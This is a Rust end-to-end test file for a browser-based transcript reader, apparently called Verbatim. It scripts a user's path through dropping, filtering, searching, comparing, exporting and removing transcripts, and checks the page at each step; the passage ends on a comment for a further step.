//! What a person does with the page, from the empty page to the cut network. Each step leaves the page as the next
//! one needs it.

use std::path::PathBuf;

use serde_json::json;

use super::browsers::Browser;
use super::files::{DroppedFiles, FISHERMEN_EN, FISHERMEN_RU, HEARING, PANEL, RECORD_TITLE, VISIT};
use super::page::{Page, quoted};
use super::passages::work_with_passages;
use super::servers::Files;

/// All of it.
pub fn travel(page: &Page<'_>, browser: Browser, files: &DroppedFiles) {
    page.resize(browser, 1440, 900);
    page.open();
    begin(page);
    read_filter_and_compare(page, files);
    scroll_together(page);
    open_the_source(page);
    keep_the_address(page);
    look_through_the_library(page);
    if browser != Browser::WebKit {
        work_with_passages(page, browser);
    }
    use_the_keyboard(page, browser);
    change_light_and_language(page);
    remove_one(page, files);
    paste(page);
    decide_otherwise(page);
    teach(page);
    export(page);
    fit_all_widths(page, browser);
    remove_all(page);
    read_pdfs(page, files);
    remove_all(page);
    take_what_can_be_read(page, browser, files);
    remove_all(page);
    page.expect_calm();
}

/// The empty page.
fn begin(page: &Page<'_>) {
    page.see_value("the empty page says what to do", "text(seen('main h1'))", "Drop transcripts here");
    page.see("there is a button that does the same", "named('Choose files')");
    page.see("the page says that nothing leaves it", "/Nothing leaves this page/.test(text(seen('.safe')))");
    page.see(
        "the bundled transcripts stand there by their titles",
        &format!("all('.card').length >= 8 && all('.card b').some((card) => text(card) === {})", quoted(FISHERMEN_EN)),
    );
    sound(page, "the empty page");
}

/// Drop, read, filter, set side by side, reload: what must hold in every browser, with a network and without.
fn read_filter_and_compare(page: &Page<'_>, files: &DroppedFiles) {
    read(page, files);
    filter(page);
    set_side_by_side(page);
    page.reload();
    page.see_value(
        "after a reload both columns are back",
        "all('.column h1').map(text)",
        json!([FISHERMEN_EN, FISHERMEN_RU]),
    );
    page.see_value("after a reload the library is still there", "all('.docs .doc').length", count_of(files));
    page.expect("nothing was asked on the way", "!seen('dialog') && !seen('.message')");
}

/// How many transcripts [`read`] drops.
fn count_of(files: &DroppedFiles) -> u32 {
    6 + u32::from(files.reference.is_some())
}

fn read(page: &Page<'_>, files: &DroppedFiles) {
    page.drop_files(std::slice::from_ref(&files.record));
    page.see_value("the dropped record opens with its title", "text(seen('.head h1'))", RECORD_TITLE);
    page.see_value("its summary stands below", "text(one('.lede')).slice(0, 23)", "Edda Storm held a meeti");
    page.see_value(
        "its date, time and place are read",
        "all('.meta span').map(text).slice(0, 3)",
        json!(["July 10, 2014, 14:00", "Skerry House, North Coast", "English"]),
    );
    page.see_value("its speaker is named", "speakers()", json!(["Edda Storm"]));
    page.see_value("with the role", "text(one('.by .role'))", "Minister of the Coast");
    page.see_value("its first paragraph is there", "words(1)", "Friends, colleagues,");
    page.see_value("and all others", "numbers()", json!([1, 2, 3, 4]));
    if let Some(reference) = &files.reference {
        page.drop_files(std::slice::from_ref(reference));
        page.see_value(
            "the reference transcript opens with its title",
            "text(seen('.head h1'))",
            "Meeting with heads of security and intelligence services of CIS states",
        );
        page.see_value(
            "its date, time and place are read",
            "all('.meta span').map(text).slice(0, 3)",
            json!(["July 10, 2014, 14:00", "Novo-Ogaryovo, Moscow Region", "English"]),
        );
        page.see_value(
            "its speaker is named, with the role",
            "[speakers(), text(one('.by .role'))]",
            json!([["Vladimir Putin"], "President of Russia"]),
        );
        page.see_value("its six paragraphs are there", "numbers()", json!([1, 2, 3, 4, 5, 6]));
        page.see_value("from the first on", "words(1)", "Friends, colleagues,");
    }
    let others: Vec<PathBuf> = [
        "fishermen-meeting-2024-en",
        "fishermen-meeting-2024-ru",
        "lighthouse-panel",
        "breakwater-hearing",
        "minister-visit",
    ]
    .map(|start| files.bundled(start))
    .into();
    page.drop_files(&others);
    page.see_value("all dropped transcripts are in the library", "all('.docs .doc').length", count_of(files));
    page.see_value("the first of them is opened", "text(seen('.head h1'))", FISHERMEN_EN);
    page.expect("no file is complained of", "!seen('.message')");
    page.see("the page says what it keeps", "/kept in this browser/.test(text(seen('.kept')))");
}

fn titles(titles: &[&str]) -> serde_json::Value {
    let mut titles = titles.to_vec();
    titles.sort_unstable();
    json!(titles)
}

const LISTED: &str = "all('.docs .doc b').map(text).sort()";

fn filter(page: &Page<'_>) {
    // By speaker.
    page.choose("Speakers", "Sigrid Aune");
    page.see_value("only what she said is shown", "matchingSpeakers()", json!(["Sigrid Aune"]));
    page.see_value(
        "the library lists only where she speaks, in whatever alphabet",
        LISTED,
        titles(&[FISHERMEN_EN, FISHERMEN_RU, HEARING, VISIT]),
    );
    page.see(
        "the column says how much of it matches",
        "/^\\d+ of 68 paragraphs match$/.test(text(one('.filter-line [role=status]')))",
    );
    page.click("the way to the whole text", "named('Whole text')");
    page.see_value("the whole text is there again", "numbers().length", 68);
    page.click("the way back", "named('Only what matches')");
    page.see("only the matches are shown", "matching().length === 14 && numbers().length < 68");
    page.click("the way out of the filter", "named('Clear the filter')");
    page.see_value("all paragraphs are back", "numbers().length", 68);

    // By date: a bar, and the fields.
    page.click("the bar of 2022", "bar(2022)");
    page.see_value("only the transcripts of that year are listed", LISTED, titles(&[PANEL]));
    page.see_value(
        "the fields show the range",
        "all('.range input').map((field) => field.value)",
        json!(["2022", "2022"]),
    );
    page.click("the way out of the filter", "named('Clear the filter')");
    page.see("all are listed again", "all('.docs .doc').length >= 6");
    page.type_into("the field for the first day", "one('.range .from')", "2024-03\u{e007}");
    page.see(
        "a day narrows it from below",
        "!entry('Meeting with the fishermen of the coast') && entry('Public hearing on the second breakwater')",
    );
    page.type_into("the field for the last day", "one('.range .to')", "2024\u{e007}");
    page.see_value("and one from above", LISTED, titles(&[HEARING]));
    page.click("the way out of the filter", "named('Clear the filter')");
    page.see_value("the fields are empty again", "all('.range input').map((field) => field.value)", json!(["", ""]));

    // By place.
    page.choose("Places", "Skarv Light, Lindsund");
    page.see_value("only what happened there is listed", LISTED, titles(&[PANEL]));
    page.choose("Places", "Skarv Light, Lindsund");
    page.see("all are listed again", "all('.docs .doc').length >= 6");

    // Not a place.
    page.click(
        "the word not beside it",
        "one('.without', facet('Places', 'Skarv Light, Lindsund').closest('.facet-line'))",
    );
    page.see_value("it is struck through", "text(one('.is-excluded del'))", "Skarv Light, Lindsund");
    page.see("and what happened there is not listed", &format!("!entry({})", quoted(PANEL)));
    page.click("the way out of the filter", "named('Clear the filter')");
    page.see("all are listed again", "all('.docs .doc').length >= 6");

    // By what is proposed while typing.
    page.search("speaker:sig");
    page.see_value("who begins so is proposed", "all('#proposals b').map(text)", json!(["Sigrid Aune"]));
    page.press("\u{e015}");
    page.see("the arrow chooses it", "one('.find input').getAttribute('aria-activedescendant') === 'proposal-1'");
    page.press("\u{e007}");
    page.see_value("Enter takes it", "one('.find input').value", "speaker:\"Sigrid Aune\" ");
    page.see("the list is closed", "one('#proposals').hidden");
    page.see_value("and only what she said is listed", LISTED, titles(&[FISHERMEN_EN, FISHERMEN_RU, HEARING, VISIT]));
    page.search("sp");
    page.see_value("a field is proposed by its name", "all('#proposals b').map(text)", json!(["speaker:"]));
    page.press("\u{e00c}");
    page.see("Escape closes the list", "one('#proposals').hidden");
    page.click("the way out of the filter", "named('Clear the filter')");

    // By a word, in the record that we know by heart.
    page.click("the record in the library", &format!("one('.read', entry({}))", quoted(RECORD_TITLE)));
    page.see_value("it is shown", "text(seen('.head h1'))", RECORD_TITLE);
    page.search("lantern");
    page.see_value(
        "the word is marked where it stands, and no other is",
        "marks()",
        json!(["Lantern", "lantern", "LANTERN"]),
    );
    page.see_value("only the paragraphs that have it are shown", "matching()", json!([2, 4]));
    page.see_value(
        "the library counts its places",
        &format!("text(one('.hits', entry({})))", quoted(RECORD_TITLE)),
        "3 places",
    );
    page.see(
        "the search box counts what the library counts",
        "all('.docs .hits').reduce((sum, hits) => sum + parseInt(text(hits)), 0) === parseInt(text(one('.count'))) \
         && new RegExp(` in ${all('.docs .doc').length} of `).test(text(one('.count')))",
    );
    page.search("lantern*");
    page.see_value("with a star its longer forms too", "marks()", json!(["Lantern", "lantern", "lantern", "LANTERN"]));
    page.expect("a mark ends where the search did", "marks().every((mark) => mark.length === 7)");
    page.search("cafe");
    page.see_value("an accent does not hide a word, and is marked with it", "marks()", json!(["café"]));
    page.search("cooperation");
    page.see_value("nor does a soft hyphen", "marks()", json!(["co\u{ad}operation"]));
    page.search("\"keep watch\"");
    page.see_value("a phrase is found in a row", "matching()", json!([3]));
    page.search("lit NEAR/3 lantern OR cafe");
    page.see_value("the query language is known", "matching()", json!([2, 3]));
    page.search("lantern colour:red");
    page.see(
        "what cannot be understood is told under the box",
        "/There is no field “colour”/.test(text(seen('.find .problem')))",
    );
    page.search("lantern");
    page.see("and goes when it is gone", "one('.find .problem').hidden");
    page.click("the switch for letters as printed", "named('Letters as printed')");
    page.see_value("only the word as typed is marked", "marks()", json!(["lantern"]));
    page.click("the switch again", "named('Letters as printed')");
    page.see_value("all are marked again", "marks().length", 3);
    page.search("nowhere-to-be-found");
    page.see(
        "the page says that nothing is found",
        "/Nothing/.test(text(one('.filter-line [role=status]'))) && /^0 places/.test(text(one('.count')))",
    );

    // All together.
    page.search("breakwater");
    page.choose("Speakers", "Marta Lund");
    page.click("a day besides: so few are left that each has a bar", "bar('2024-03-12')");
    page.choose("Places", "Town Hall, Lindsund");
    page.see_value("word, speaker, day and place together leave one transcript", LISTED, titles(&[HEARING]));
    page.click("that transcript", "one('.docs .read')");
    page.see_value("it is shown", "text(seen('.head h1'))", HEARING);
    page.see("with nothing but her words", "JSON.stringify(matchingSpeakers()) === '[\"Marta Lund\"]'");
    page.see(
        "and the word marked in them",
        "marks().length > 0 && marks().every((mark) => /^breakwater$/i.test(mark))",
    );
    page.click("the way out of the filter", "named('Clear the filter')");
    page.see_value("the search box is empty", "one('.find input').value", "");
    page.see_value("nothing is marked any more", "marks()", json!([]));
    page.see("all are listed again", "all('.docs .doc').length >= 6");
}

fn set_side_by_side(page: &Page<'_>) {
    page.click("the English transcript", &format!("one('.read', entry({}))", quoted(FISHERMEN_EN)));
    page.see_value("it is shown", "text(seen('.head h1'))", FISHERMEN_EN);
    page.click(
        "the way to set the Russian one beside it",
        &format!("one('.acts button', entry({}))", quoted(FISHERMEN_RU)),
    );
    page.see_value("both stand side by side", "all('.column h1').map(text)", json!([FISHERMEN_EN, FISHERMEN_RU]));
    page.see("with their text", "paragraph(1, 0) && paragraph(1, 1)");
    page.see(
        "next to each other",
        "column(1).getBoundingClientRect().left >= column(0).getBoundingClientRect().right - 1",
    );
    page.see_value(
        "each says what it holds",
        "all('.chooser select').map((choice) => text(choice.selectedOptions[0]).split(' · ')[0])",
        json!([FISHERMEN_EN, FISHERMEN_RU]),
    );
}

fn scroll_together(page: &Page<'_>) {
    page.see("both columns are drawn as far as needed", "paragraph(20, 0) && paragraph(20, 1)");
    page.tell("scrollTo(20, 0)");
    page.see_value(
        "scrolling the first column takes the second to the same paragraph",
        "[topOf(0), topOf(1)]",
        json!([20, 20]),
    );
    page.tell("scrollTo(45, 1)");
    page.see_value("and the second takes the first", "[topOf(0), topOf(1)]", json!([45, 45]));
    page.click("the lock", "one('.lock')");
    page.see("the lock is open", "one('.lock').getAttribute('aria-pressed') === 'false'");
    page.tell("scrollTo(10, 0)");
    page.see_value("unlocked, the first column moves", "topOf(0)", 10);
    page.see("its place is in the address once it has settled", "/-10&/.test(decodeURIComponent(location.hash))");
    page.expect("and the second stays", "topOf(1) === 45");
    page.click("the lock", "one('.lock')");
    page.see("the lock is closed", "one('.lock').getAttribute('aria-pressed') === 'true'");
    sound(page, "two columns");
}

fn open_the_source(page: &Page<'_>) {
    page.tell("scrollTo(10, 0)");
    page.see("paragraph 10 is on screen", "isWithin(paragraph(10, 0), scroller(0))");
    page.click("the way to its source", "one('.to-source', paragraph(11, 0))");
    let marked = "all('.source .is-marked').map((part) => part.textContent).join(' ').replace(/\\s+/g, ' ').trim()";
    page.see("the words of the paragraph are marked in the source", &format!("{marked} === words(11, 0)"));
    page.see("the mark is in sight", "isWithin(one('.source .is-marked'), one('.source-scroll'))");
    page.see("the source says its file", "/fishermen-meeting-2024-en\\.txt/.test(text(one('.source h2')))");
    page.see("and its hash", "/SHA-256 [0-9a-f]{64}/.test(text(one('.source .hash')))");
    sound(page, "the source");
    page.click("the way to close it", "named('Close the source')");
    page.see("the source is closed", "!one('.source')");
}

fn keep_the_address(page: &Page<'_>) {
    page.click("a year", "bar(2024)");
    page.search("breakwater");
    page.choose("Speakers", "Jonas Veld");
    page.see_value("the view is narrowed", "[matchingSpeakers(0), marks(0)]", json!([["Jonas Veld"], ["breakwater"]]));
    page.see("and the address says how", "/speaker=/.test(location.hash) && /q=breakwater/.test(location.hash)");
    let view = "JSON.stringify([all('.column h1').map(text), numbers(0), marks(0), one('.find input').value, \
                all('.range input').map((field) => field.value), all('.facet input:checked').length, all('.docs .doc').length])";
    let (before, fragment) = (page.tell_text(view), page.tell_text("location.hash"));
    page.reload();
    page.see_value("after a reload the view is the same", view, before.clone());
    page.open_at("");
    page.see(
        "without an address the page begins with nothing open",
        "!one('.column') && all('.docs .doc').length >= 6",
    );
    page.open_at(&fragment);
    page.see_value("a copied link brings the view back", view, before.clone());
    page.click("the way out of the filter", "named('Clear the filter')");
    page.see_value("the filter is gone", "numbers(0).length", 68);
    page.back();
    page.see_value("a step back brings it back", view, before);
    page.forward();
    page.see_value("a step forward takes it away again", "[numbers(0).length, marks(0).length]", json!([68, 0]));
}

/// The views of the whole library: from the search to the concordance, to the text and back, and to the charts.
fn look_through_the_library(page: &Page<'_>) {
    let lines = "all('.chunk .kwic-row')";
    page.search("breakwater");
    page.see("places are counted", "parseInt(text(one('.find .count'))) > 5");
    page.click("the concordance", "named('Concordance')");
    page.see_value("it says of what", "text(seen('.library-view h1'))", "Concordance of breakwater");
    page.see("and has a line for every place", &format!("{lines}.length === parseInt(text(one('.find .count')))"));
    page.see("it is in the address", "/view=concordance/.test(location.hash)");
    let words =
        format!("{lines}.map((row) => text(one('.kwic-after', row)).toLowerCase().match(/[a-z0-9]+/)?.[0] ?? '~')");
    page.expect("it is not sorted by the words after", &format!("String({words}) !== String({words}.sort())"));
    page.click("the way to sort by the first word after", "named('Sort by: word 1 after')");
    page.see("the lines are sorted by it", &format!("String({words}) === String({words}.sort())"));
    page.expect("the head says so", "one('.list-head .kwic-after').getAttribute('aria-sort') === 'ascending'");
    page.expect("and keeps the focus", "document.activeElement.getAttribute('aria-pressed') === 'true'");
    sound(page, "the concordance");
    let shown = format!("{lines}.map(text)");
    let before = page.tell(&shown);
    page.reload();
    page.see_value("after a reload the lines are the same", &shown, before.clone());
    let after = page.tell_text(&format!("text(one('.kwic-after', {lines}[2])).slice(0, 12)"));
    page.click("the third line", &format!("one('.kwic-found a', {lines}[2])"));
    page.see(
        "the text is there, with the place in it",
        &format!(
            "!one('.library-view') && all('article mark').some((mark) => mark.textContent.toLowerCase() === 'breakwater' \
         && text(mark.parentElement).includes({}))",
            quoted(&after)
        ),
    );
    page.back();
    page.see_value("a step back brings the lines back", &shown, before);
    page.press("4");
    page.see_value("4 shows the charts", "text(seen('.library-view h1'))", "Charts");
    page.see("with the numbers", "all('.numbers tbody tr').length > 1 && one('.chart .bar')");
    sound(page, "the charts");
    page.click("the comparison", "named('Compare')");
    page.see("it sets two transcripts row by row", "/ beside /.test(text(seen('.library-view h1')))");
    page.see(
        "the one beside the other",
        "(([one, other]) => other && one.offsetHeight > 0 && other.getBoundingClientRect().left \
         > one.getBoundingClientRect().right)(all('.chunk .compare-row .witness'))",
    );
    sound(page, "the comparison");
    page.click("the quote check", "named('Quote check')");
    page.see_value("it asks for a text", "text(seen('.library-view h1'))", "Quote check");
    let said = "A Lantern is lit where a lantern is needed";
    page.type_into("the place to paste it", "seen('.library-view textarea')", said);
    page.click("the way to check it", "one('.library-view input[type=submit]')");
    page.see("it was said, and by whom", "seen('.verdict-exact') && /Edda Storm/.test(text(one('.library-view')))");
    sound(page, "the quote check");
    page.click("the way back to reading", "named('Read')");
    page.see("it leads back to the text", "!one('.library-view') && one('.column')");
    page.click("the way out of the filter", "named('Clear the filter')");
    page.click("the English transcript", &format!("one('.read', entry({}))", quoted(FISHERMEN_EN)));
    page.see_value("it is shown", "text(seen('.head h1'))", FISHERMEN_EN);
}

fn use_the_keyboard(page: &Page<'_>, browser: Browser) {
    page.press("1");
    page.see_value("1 reads one alone", "all('.column').length", 1);
    page.press("/");
    page.see("/ goes to the search box", "document.activeElement === one('.find input')");
    page.press("\u{e00c}");
    page.see("Escape leaves it", "document.activeElement !== one('.find input')");
    page.expect("and / itself was not typed", "one('.find input').value === ''");
    page.press("?");
    page.see("? shows the keys", "one('dialog[open]') && /Keys/.test(text(one('dialog h2')))");
    page.press("\u{e00c}");
    page.see("Escape closes them", "!one('dialog[open]')");
    page.tell("scroller(0).scrollTop = 0");
    page.see_value("the column is at its head", "scroller(0).scrollTop", 0);
    page.press("j");
    page.see("j moves on", "scroller(0).scrollTop > 0");
    let first = page.tell_text("String(scroller(0).scrollTop)");
    page.press("j");
    page.see("turn by turn", &format!("scroller(0).scrollTop > {first}"));
    page.press("k");
    page.see("k moves back", &format!("Math.abs(scroller(0).scrollTop - {first}) < 2"));
    page.press("2");
    page.see_value(
        "2 sets beside it what belongs to it",
        "all('.column h1').map(text)",
        json!([FISHERMEN_EN, FISHERMEN_RU]),
    );
    if browser != Browser::WebKit {
        compare_row_by_row(page);
    }
    page.press("1");
    page.see_value("1 reads one alone again", "all('.column h1').map(text)", json!([FISHERMEN_EN]));
}

/// From difference to difference by the keyboard alone, and a pin that is taken back, set again and kept.
fn compare_row_by_row(page: &Page<'_>) {
    let pinned = "all('.row-pin[aria-pressed=true]').length";
    page.click("the way to the rows", "named('Compare row by row')");
    page.see("the two stand row by row", "all('.chunk .compare-row').length > 3");
    page.see("the strip shows where they differ", "one('.library-view .lanes path').getAttribute('d') !== null");
    page.press("n");
    page.see("n goes to a difference", "document.activeElement.matches('.chunk .compare-row[aria-label]')");
    let row = "document.activeElement.getAttribute('aria-rowindex')";
    let first = page.tell_text(row);
    page.press("n");
    page.see("and to the next", &format!("Number({row}) > {first}"));
    page.press("p");
    page.see_value("p goes back", row, first.as_str());
    page.expect("where it is heard what differs", "document.activeElement.getAttribute('aria-label').includes('¶')");
    page.press("k");
    page.see_value("k pins the row", pinned, 1);
    page.see("it can be taken back", "one('.message .undo')");
    page.expect("nothing has moved", &format!("{row} === {}", quoted(&first)));
    page.press("u");
    page.see_value("u takes it back", pinned, 0);
    page.press("k");
    page.see_value("k pins it again", pinned, 1);
    page.reload();
    page.see_value("after a reload it is pinned still", pinned, 1);
    sound(page, "the comparison with a pin");
    page.click("the pin", "one('.row-pin[aria-pressed=true]')");
    page.see_value("it takes the pin away", pinned, 0);
    page.click("the message away", "named('Dismiss')");
}

fn change_light_and_language(page: &Page<'_>) {
    let paper = "getComputedStyle(document.body).backgroundColor";
    let before = page.tell_text(paper);
    page.click("light or dark", "named('Light or dark')");
    page.see("the page changes its light", &format!("{paper} !== {}", quoted(&before)));
    let after = page.tell_text(paper);
    page.reload();
    page.see_value("the light survives a reload", paper, after);
    page.see_value("with the text", "text(one('.head h1'))", FISHERMEN_EN);
    page.press("t");
    page.see_value("t changes it back", paper, before);

    page.click("the Russian language", "named('Русский')");
    page.see_value("the interface speaks Russian", "text(one('.side h2')).replace(/\\d.*/, '')", "Библиотека");
    page.expect("and says so to screen readers", "document.documentElement.lang === 'ru'");
    page.see("dates too", "/27 февраля 2024/.test(text(one('.meta')))");
    page.reload();
    page.see("the language survives a reload", "/^Библиотека/.test(text(one('.side h2')))");
    page.click("the English language", "named('English')");
    page.see("the interface speaks English again", "/^Library/.test(text(one('.side h2')))");
}

fn remove_one(page: &Page<'_>, files: &DroppedFiles) {
    let count = count_of(files);
    page.see_value("the library is there", "all('.docs .doc').length", count);
    page.click("the way to remove a transcript", &format!("named('Remove {PANEL}')"));
    page.see(
        "it is gone from the library",
        &format!("!entry({}) && all('.docs .doc').length === {}", quoted(PANEL), count - 1),
    );
    page.reload();
    page.see_value("the others are there after a reload", "all('.docs .doc').length", count - 1);
    page.see(
        "and it is not",
        &format!("!entry({}) && !/Reading what was kept/.test(text(one('.side')))", quoted(PANEL)),
    );
}

/// Has a text read that is typed, a line each.
fn paste_lines(page: &Page<'_>, lines: &[&str]) {
    page.click("the way to paste", "named('Paste text')");
    let keys: String = lines.iter().map(|line| format!("{line}\u{e007}")).collect();
    page.type_into("the place to paste", "seen('dialog textarea')", &keys);
    page.click("the way to read it", "named('Read it')");
}

fn paste(page: &Page<'_>) {
    paste_lines(
        page,
        &[
            "Marta Lund: The gate is mended.",
            "Oskar Hagen: It was I who mended it.",
            "Marta Lund: Thank you.",
            "Oskar Hagen: Not at all.",
        ],
    );
    page.see_value(
        "the pasted text is read, with its speakers",
        "speakers().slice(0, 2)",
        json!(["Marta Lund", "Oskar Hagen"]),
    );
    page.see_value("and its words", "[words(1), words(2)]", json!(["The gate is mended.", "It was I who mended it."]));
    page.see("and the dialog is closed", "!one('dialog[open]')");
}

/// No width makes the page wider than the window, or a column wider than its place.
fn fit_all_widths(page: &Page<'_>, browser: Browser) {
    page.click("the English transcript", &format!("one('.read', entry({}))", quoted(FISHERMEN_EN)));
    page.see_value("it is shown", "text(seen('.head h1'))", FISHERMEN_EN);
    for view in ["reading", "two columns", "the source"] {
        match view {
            "two columns" => {
                page.press("2");
                page.see_value("two columns", "all('.column h1').length", 2);
            }
            "the source" => {
                page.press("1");
                page.see_value("one column", "all('.column h1').length", 1);
                page.press("s");
                page.see("the source", "one('.source .is-marked')");
            }
            _ => {}
        }
        for width in [320, 390, 1024, 1440] {
            page.resize(browser, width, 800);
            let wide = "[document.documentElement, ...all('.column, .pane, .scroll, .source, .source-scroll, .top, .foot, main')]\
                .filter((box) => isSeen(box) && (box.scrollWidth > box.clientWidth + 1 \
                    || box.getBoundingClientRect().right > innerWidth + 1)).map((box) => box.className || box.tagName)";
            page.see_value(&format!("{view}: nothing is cut off or sticks out at {width} pixels"), wide, json!([]));
        }
    }
    page.resize(browser, 1440, 900);
    page.press("\u{e00c}");
    page.see("Escape closes the source", "!one('.source')");
}

/// Chooses another format in the report, which stays after a reload, and lets the content decide again.
fn decide_otherwise(page: &Page<'_>) {
    let choose = |id: &str| {
        format!(
            "(() => {{ const list = one('.report select'); list.value = '{id}'; \
             list.dispatchEvent(new Event('change', {{ bubbles: true }})); return 1; }})()"
        )
    };
    page.click("the English transcript", &format!("one('.read', entry({}))", quoted(FISHERMEN_EN)));
    page.see_value("it is shown", "text(seen('.head h1'))", FISHERMEN_EN);
    page.see("its turns have speakers", "speakers().includes('Marta Lund')");
    page.click("the parse report", "seen('.report summary')");
    page.see("the formats can be chosen", "all('.report select')[0].options.length > 30");
    page.see("and the encodings", "all('.report select')[1].options.length > 20");
    page.tell(&choose("plain"));
    page.see("read as plain text it has no speakers", "speakers().length === 0 && paragraph(1)");
    page.see("and says that it was chosen", "/as you chose/.test(text(one('.report summary')))");
    page.reload();
    page.see("the choice is there after a reload", "/as you chose/.test(text(one('.report summary')))");
    page.click("the parse report", "seen('.report summary')");
    page.see("the formats can be chosen again", "all('.report select')[0].options.length > 30");
    page.tell(&choose(""));
    page.see("the content decides again", "speakers().includes('Marta Lund')");
}

/// A label that nobody could know for one is taught: what it would change is shown, it holds, is taken back, survives a
/// reload, and goes.
fn teach(page: &Page<'_>) {
    paste_lines(
        page,
        &[
            "Talks on the quay",
            "",
            "Anna Lund — We begin at nine.",
            "",
            "Nils Berg — Then I shall be late.",
            "",
            "Anna Lund — You are always late.",
        ],
    );
    page.see("nobody is said to speak", "/We begin at nine/.test(text(one('article'))) && speakers().length === 0");
    page.press("s");
    page.click("the line with the first label", "one('.lines .teach[aria-label=\"Say what line 3 is\"]')");
    let words = "all('dialog .word[aria-pressed=true]').map(text)";
    page.see_value("its label is guessed", words, json!(["Anna", "Lund"]));
    page.see("what would change is shown", "/Anna Lund, Nils Berg/.test(text(one('dialog .changes')))");
    page.see_value("with the lines that are meant", "all('dialog .found li').length", 3);
    sound(page, "teaching");
    page.click("another end of the label", "all('dialog .word')[3]");
    page.see_value("the label is longer", words, json!(["Anna", "Lund", "We", "begin"]));
    page.click("its beginning", "all('dialog .word')[0]");
    page.click("its end", "all('dialog .word')[1]");
    page.see_value("the label is as it was", words, json!(["Anna", "Lund"]));
    page.click("it may be a date", "all('dialog .what label').find((label) => text(label) === 'the date')");
    page.see("which it is not", "/No date that can be read/.test(text(one('dialog .effect')))");
    page.expect("and cannot be accepted", "named('Read it so').disabled");
    page.click("it is a label", "all('dialog .what label').find((label) => text(label) === 'the label of a speaker')");
    page.click("the way to accept it", "named('Read it so')");
    let turns = json!(["Anna Lund", "Nils Berg", "Anna Lund"]);
    page.see_value("the speakers are there", "speakers()", turns.clone());
    page.see_value("the words without the label", "words(2)", "Then I shall be late.");
    page.see("the page tells of it, with a way back", "seen('.message .undo')");
    page.press("u");
    page.see("which takes it back", "speakers().length === 0 && !seen('.message .undo')");

    page.press("m");
    page.see_value("a key asks what the paragraph's line is", words, json!(["Anna", "Lund"]));
    let chosen = "text(document.activeElement?.closest?.('label'))";
    page.see_value("the keyboard is where the choice is", chosen, "the label of a speaker");
    page.press("\u{e015}");
    page.see_value("an arrow chooses what comes next", chosen, "speech, no label");
    page.press("\u{e013}");
    page.see_value("and the other one goes back", chosen, "the label of a speaker");
    page.see_value("the label is as it was", words, json!(["Anna", "Lund"]));
    page.click("the way to accept it", "named('Read it so')");
    page.see_value("the speakers are there again", "speakers()", turns.clone());
    page.reload();
    page.see_value("also after a reload", "speakers()", turns);
    page.click("what is kept", "seen('.kept')");
    page.click("what was taught", "all('.what-is-kept button').find((button) => text(button) === 'What was taught')");
    page.see_value("one rule is there", "all('dialog .rules li').length", 1);
    sound(page, "the rules");
    page.click("the way to take it back", "one('dialog .rules button')");
    page.see(
        "it is gone",
        "all('dialog .rules li').length === 0 && /Nothing was taught yet/.test(text(one('dialog[open]')))",
    );
    page.press("\u{e00c}");
    page.click("the way back to reading", "named('Read')");
    page.see("and nobody is said to speak", "!one('dialog[open]') && column(0) && speakers().length === 0");
    page.click("the way to remove the text", "named('Remove Talks on the quay')");
    page.see("it is gone from the library", "!entry('Talks on the quay')");
    page.click("the English transcript", &format!("one('.read', entry({}))", quoted(FISHERMEN_EN)));
}

/// What an export would lose is said first; the file is made in the page.
fn export(page: &Page<'_>) {
    page.click("the way to export", "named('Export')");
    page.see("the formats are offered", "all('dialog[open] input[type=radio]').length >= 12");
    page.see("with what has no place in the first of them", "all('dialog[open] li').length > 0");
    page.see("and a file to download", "/Download .+\\.txt, /.test(text(one('dialog[open]')))");
    page.click("captions", "all('dialog[open] label').find((label) => /WebVTT/.test(text(label)))");
    page.see(
        "which a text without times cannot become",
        "!/Download .+\\.vtt, /.test(text(one('dialog[open]'))) && /times/.test(text(one('dialog[open]')))",
    );
    page.click("Verbatim's own format", "all('dialog[open] label').find((label) => /Verbatim JSON/.test(text(label)))");
    page.see(
        "which holds everything",
        "/Download .+\\.json, /.test(text(one('dialog[open]'))) && all('dialog[open] li').length === 0",
    );
    sound(page, "the export");
    page.press("\u{e00c}");
    page.see("Escape closes it", "!one('dialog[open]')");
    page.search("breakwater");
    page.see("some paragraphs are shown", "matching().length > 0 && one('.gap')");
    page.click("the way to export", "named('Export')");
    page.see(
        "what is shown can be taken alone",
        "isSeen(one('dialog[open] .excerpt')) && one('.excerpt input').checked",
    );
    page.see("and says so in its name", "/Download .+-excerpt\\.json, /.test(text(one('dialog[open]')))");
    page.click("the whole", "one('dialog[open] .excerpt')");
    page.see("which has the name of its own", "/Download (?!.+-excerpt).+\\.json, /.test(text(one('dialog[open]')))");
    page.press("\u{e00c}");
    page.see("Escape closes it again", "!one('dialog[open]')");
    page.search("");
    page.see("all is shown again", "!one('.gap')");
}

/// Takes all files out, and leaves the empty page.
pub fn remove_all(page: &Page<'_>) {
    page.click("what is kept", "seen('.kept')");
    page.see("the page says where it keeps it", "/IndexedDB/.test(text(one('.what-is-kept')))");
    page.click("the way to remove all", "one('.what-is-kept summary')");
    page.see("it asks once", "/Yes, remove all/.test(text(seen('.what-is-kept .danger')))");
    page.click("yes", "one('.what-is-kept .danger')");
    page.see("the page is empty again", "all('.docs .doc').length === 0 && seen('.target')");
    page.reload();
    page.see("and stays so", "seen('.target') && !seen('.kept') && /^0 transcripts/.test(text(one('.foot .shown')))");
}

/// PDFs: what reads them comes with the first one, which here stands in an archive.
fn read_pdfs(page: &Page<'_>, files: &DroppedFiles) {
    let loaded =
        "performance.getEntriesByType('resource').filter((entry) => /pdf[^/]*[.]wasm/.test(entry.name)).length";
    page.see_value("before the first PDF comes, nothing that reads PDFs was fetched", loaded, 0);
    page.drop_files(std::slice::from_ref(&files.pdf_in_archive));
    page.see_value(
        "a PDF in an archive opens with its title",
        "text(seen('.head h1'))",
        "Harbour board, regular session",
    );
    page.see_value("its date is read", "text(one('.meta span')).slice(0, 13)", "March 4, 2024");
    page.see("and who speaks", "speakers().includes('Marta Lund') && speakers().includes('Oskar Hagen')");
    page.drop_files(&[files.pdf_of_columns.clone(), files.scanned_pdf.clone()]);
    page.see_value("one of two columns opens too", "text(seen('.head h1'))", "Council debate on the winter budget");
    page.see("the scanned one gets its sentence", "/text recognition/.test(text(seen('.message.problem')))");
    page.click("the way to take the sentence away", "named('Dismiss all') || seen('.message button')");
    page.see("it is gone", "!seen('.message')");
    page.see("both are kept", "/^2 files kept/.test(text(one('.kept')))");
    page.reload();
    page.see_value("after a reload both are still there", "all('.docs .doc').length", 2);
    page.expect("and nobody complains", "!seen('.message')");
}

/// A folder with ten transcripts beside four files that cannot be read.
